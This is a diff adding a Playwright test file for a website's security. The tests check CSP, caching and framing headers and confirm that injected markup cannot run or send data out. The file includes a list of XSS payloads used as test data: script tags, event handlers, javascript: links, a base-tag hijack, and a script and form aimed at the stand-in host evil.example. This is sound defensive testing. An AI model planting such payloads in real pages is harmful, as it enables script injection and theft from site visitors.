@@ -1,0 +1,257 @@
+import { expect, test } from '@playwright/test'
+import { sitePages } from '../../../lib/site/pages.ts'
+import { scriptHash } from '../../../lib/http/csp.ts'
+import { fontFiles } from '../../../styles/fonts.ts'
+import { lake } from '../support/lake.ts'
+import { refusals } from '../support/refusals.ts'
+import { openDocument } from '../support/studio.ts'
+
+/** What the browser is told about safety, and that it holds. The reasons are in `lib/http`. */
+
+const addresses = [
+  ...sitePages.map(({ path }) => path),
+  '/blog/hiring-bilingual-reps',
+  '/no-such-page',
+  '/feed.xml',
+  '/sitemap.xml',
+  '/robots.txt',
+  '/favicon.svg',
+  '/studio',
+  '/studio/structure',
+  '/api/revalidate',
+  '/api/draft-mode/enable',
+  '/api/media/none.png',
+  '/api/no-such-call',
+  '/_next/image',
+]
+
+const policyOf = (answer: Response) =>
+  Object.fromEntries(
+    (answer.headers.get('content-security-policy') ?? '').split('; ').map((directive) => {
+      const [name = '', ...sources] = directive.split(' ')
+      return [name, sources]
+    }),
+  )
+
+test('every response carries the security headers', async ({ baseURL }) => {
+  for (const address of addresses) {
+    const answer = await fetch(new URL(address, baseURL), { redirect: 'manual' })
+    const { headers } = answer
+    expect(headers.get('x-content-type-options'), address).toBe('nosniff')
+    expect(headers.get('referrer-policy'), address).toBe('strict-origin-when-cross-origin')
+    expect(headers.get('cross-origin-opener-policy'), address).toBe('same-origin')
+    expect(headers.get('permissions-policy'), address).toContain('camera=()')
+    expect(headers.get('x-powered-by'), address).toBeNull()
+    const policy = policyOf(answer)
+    const isData = address.startsWith('/api/') && address !== '/api/no-such-call'
+    expect(policy['frame-ancestors'], address).toEqual([isData ? "'none'" : "'self'"])
+    expect(policy['script-src'] ?? policy['default-src'], address).toBeDefined()
+    for (const [name, sources] of Object.entries(policy)) {
+      if (!name.startsWith('style-')) expect(sources, `${address} ${name}`).not.toContain("'unsafe-inline'")
+      expect(sources, `${address} ${name}`).not.toContain("'unsafe-eval'")
+    }
+  }
+})
+
+test('fonts are immutable, a missing font is not', async ({ baseURL }) => {
+  for (const file of fontFiles) {
+    const answer = await fetch(new URL(file, baseURL))
+    expect(answer.status, file).toBe(200)
+    expect(answer.headers.get('cache-control'), file).toBe('public, max-age=31536000, immutable')
+    const missing = await fetch(new URL(file.replace('-normal', ''), baseURL))
+    expect([missing.status, missing.headers.get('cache-control')]).toEqual([
+      404,
+      expect.not.stringContaining('immutable'),
+    ])
+  }
+})
+
+test('files of the Studio are immutable, a missing one is not', async ({ baseURL }) => {
+  const ask = (path: string, headers = {}) => fetch(new URL(path, baseURL), { headers })
+  const studio = await ask('/studio')
+  const files = (await studio.text()).match(/\/studio\/static\/[^"]+\.(?:js|css)/g) ?? []
+  expect(files.length).toBeGreaterThan(1)
+  for (const file of files) {
+    const answer = await ask(file)
+    expect(answer.status, file).toBe(200)
+    expect(answer.headers.get('cache-control'), file).toBe('public, max-age=31536000, immutable')
+  }
+  const [file = ''] = files
+  for (const missing of [file.replace(/.{8}(\.\w+)$/, 'ABCDEFGH$1'), `${file}.map`, '/studio/static/'])
+    expect((await ask(missing)).status, missing).toBe(404)
+  const elsewhere = [
+    await ask(file.replace(/.{8}(\.\w+)$/, 'ABCDEFGH$1')),
+    await ask(file, { range: 'bytes=99999999-' }),
+    await ask('/studio/static/manifest.webmanifest'),
+    await ask('/studio/structure/static/a-ABCDEFGH.js'),
+    studio,
+  ]
+  for (const { url, status, headers } of elsewhere)
+    expect(headers.get('cache-control'), `${status} ${url}`).not.toContain('immutable')
+})
+
+/** Inline scripts of a page, data left out. */
+const inlineScripts = (html: string) =>
+  [...html.matchAll(/<script((?: [^>]*)?)>(.*?)<\/script>/gs)].flatMap(([, attributes = '', text = '']) =>
+    /src=|type="application/.test(attributes) ? [] : text,
+  )
+
+test('one policy on every page allows exactly our inline scripts', async ({ baseURL }) => {
+  const policies = new Set<string>()
+  const scripts = new Set<string>()
+  const paths = sitePages.map(({ path }) => path)
+  for (const path of [
+    ...paths,
+    '/blog/hiring-bilingual-reps',
+    '/no-such-page',
+    '/500',
+    '/api/no-such-call',
+  ]) {
+    const response = await fetch(new URL(path, baseURL))
+    const html = await response.text()
+    expect(html, path).not.toContain('http-equiv="Content-Security-Policy"')
+    policies.add(policyOf(response)['script-src']?.join(' ') ?? '')
+    for (const script of inlineScripts(html)) scripts.add(scriptHash(script))
+  }
+  expect(scripts.size).toBeGreaterThan(0)
+  expect([...policies].map((policy) => policy.split(' ').sort())).toEqual([["'self'", ...scripts].sort()])
+})
+
+test('what visitors do breaks no rule', async ({ page }) => {
+  const refused = await refusals(page)
+  await page.setViewportSize({ width: 390, height: 844 })
+  await page.goto('/')
+  await page.getByRole('button', { name: 'Open menu' }).click()
+  await page.getByRole('button', { name: 'Close menu' }).click()
+  await page.getByRole('group', { name: 'Reviews', exact: true }).scrollIntoViewIfNeeded()
+  await page.getByRole('button', { name: 'Next reviews' }).click()
+  await page.goto('/job-seeker?location=tampa')
+  await page.getByRole('button', { name: 'Find Jobs' }).click()
+  await page.getByRole('contentinfo').getByRole('link', { name: 'Our Blog' }).click()
+  await page.getByRole('link', { name: /^Read Full Article/ }).click()
+  await expect(page.getByRole('link', { name: 'Back to Blog' })).toBeVisible()
+  await page.getByRole('contentinfo').getByRole('link', { name: 'FAQ' }).click()
+  await page.locator('summary').nth(1).click()
+  await page.waitForLoadState('networkidle')
+  expect(refused).toEqual([])
+})
+
+test('the Studio and a page in draft mode break no rule', async ({ page, baseURL }) => {
+  const refused = await refusals(page)
+  await openDocument(page, 'aboutPage', 'aboutPage', 'hero.heading')
+  // With a lake of our own the Studio is kept from calling Sanity, which it then complains about.
+  expect(refused.filter((what) => /^(script|style|font|img|worker|frame)-src/.test(what))).toEqual([])
+  refused.length = 0
+  const secret = `safety-${Date.now()}`
+  const { _id } = await lake.create({
+    _type: 'sanity.previewUrlSecret',
+    secret,
+    source: 'sanity/presentation',
+  })
+  const preview = new URL('/api/draft-mode/enable', baseURL)
+  preview.searchParams.set('sanity-preview-secret', secret)
+  preview.searchParams.set('sanity-preview-pathname', '/about-us')
+  const draft = page.waitForResponse('**/about-us')
+  await page.goto(preview.href)
+  await expect(page).toHaveURL('/about-us')
+  expect((await draft).headers()['content-security-policy']).toMatch(/; script-src 'self'( 'sha256-[^']+')+;/)
+  await expect(page.getByRole('status').filter({ hasText: 'You are looking at drafts' })).toBeVisible()
+  await expect(page.locator('sanity-visual-editing')).toBeAttached()
+  await page.getByRole('heading', { level: 1 }).hover()
+  await lake.delete(_id)
+  expect(refused).toEqual([])
+})
+
+/** Markup as it would look had somebody got it into a page. Each sets `window.__ran` if it runs. */
+const injected = [
+  '<script>window.__ran="script"</script>',
+  '<script src="data:text/javascript,window.__ran=%22data%22"></script>',
+  '<script src="https://evil.example/steal.js"></script>',
+  '<img src="/none.png" onerror="window.__ran=\'handler\'">',
+  '<svg onload="window.__ran=\'svg\'"></svg>',
+  '<iframe srcdoc="<script>parent.__ran=\'frame\'</script>"></iframe>',
+  '<iframe src="javascript:parent.__ran=1"></iframe>',
+  '<object data="data:text/html,<script>parent.__ran=1</script>"></object>',
+  '<base href="https://evil.example/">',
+  '<a id="lure" href="javascript:void(window.__ran=\'link\')">Press</a>',
+  '<form id="trap" action="https://evil.example/"><button>Send</button></form>',
+]
+
+test('injected markup runs nothing and sends nothing away', async ({ page }) => {
+  const asked: string[] = []
+  await page.route('https://evil.example/**', (route) => {
+    asked.push(route.request().url())
+    return route.fulfill({ contentType: 'text/javascript', body: 'window.__ran="evil"' })
+  })
+  await page.route('**/faq', async (route) => {
+    const answer = await route.fetch()
+    const body = (await answer.text()).replace('<footer', `${injected.join('')}<footer`)
+    await route.fulfill({ response: answer, body })
+  })
+  // Without the page's own scripts, which would draw the page anew when they find foreign markup in it.
+  await page.route('**/_next/static/**', (route) => route.abort())
+  await page.goto('/faq')
+  await expect(page.locator('#lure')).toBeAttached()
+  await page.locator('#lure').evaluate((link: HTMLElement) => link.click())
+  await page.locator('#trap button').evaluate((button: HTMLElement) => button.click())
+  expect(await page.evaluate(() => (window as { __ran?: string }).__ran)).toBeUndefined()
+  expect(await page.evaluate(() => document.baseURI)).toContain('/faq')
+  expect(new URL(page.url()).pathname).toBe('/faq')
+  expect(asked).toEqual([])
+})
+
+test('code from text does not run, not in a timer either', async ({ page }) => {
+  await page.goto('/about-us')
+  const tried = await page.addScriptTag({ url: '/favicon.svg' }).then(
+    () => 'ran',
+    () => 'refused',
+  )
+  expect(tried, 'a picture taken for a script').toBe('refused')
+  const refusal = await page.evaluate(
+    () =>
+      new Promise<string>((done) => {
+        document.addEventListener('securitypolicyviolation', (event) => done(event.effectiveDirective))
+        const script = document.createElement('script')
+        script.textContent = 'window.__ran=1'
+        document.head.append(script)
+      }),
+  )
+  expect(refusal).toBe('script-src-elem')
+  // In a script of the page's own: what a test evaluates in a page may do more than the page.
+  await page.route('**/tries.js', (route) => route.fulfill({ contentType: 'text/javascript', body: tries }))
+  await page.evaluate(() =>
+    document.head.append(Object.assign(document.createElement('script'), { src: '/tries.js' })),
+  )
+  await page.waitForFunction(() => (window as { __tried?: string[] }).__tried?.includes('the timer after it'))
+  expect(await page.evaluate(() => (window as { __tried?: string[] }).__tried)).toEqual([
+    'eval: EvalError',
+    'Function: EvalError',
+    'the timer after it',
+  ])
+})
+
+/** A script that tries each way to run a text. The last of its timers has its turn after the one with a text. */
+const tries = `
+  const tried = (window.__tried = [])
+  const attempt = (name, run) => { try { tried.push(name + ': ' + run()) } catch (error) { tried.push(name + ': ' + error.name) } }
+  attempt('eval', () => eval('"ran"'))
+  attempt('Function', () => new Function('return "ran"')())
+  setTimeout('window.__tried.push("a timer: ran")')
+  setTimeout(() => tried.push('the timer after it'))
+`
+
+test('another site cannot frame ours, because of the policy', async ({ page, baseURL }) => {
+  await page.route('http://stranger.example/', (route) =>
+    route.fulfill({ contentType: 'text/html', body: `<iframe src="${baseURL}/contact-us"></iframe>` }),
+  )
+  const framed = page.frameLocator('iframe').getByRole('heading', { level: 1 })
+  await page.goto('http://stranger.example/')
+  await expect.poll(() => page.frames()[1]?.url()).toMatch(/^chrome-error:/)
+  await expect(framed).toHaveCount(0)
+  await page.route('**/contact-us', async (route) => {
+    const answer = await route.fetch()
+    await route.fulfill({ response: answer, headers: { 'content-type': 'text/html' } })
+  })
+  await page.goto('http://stranger.example/')
+  await expect(framed).toBeVisible()
+})
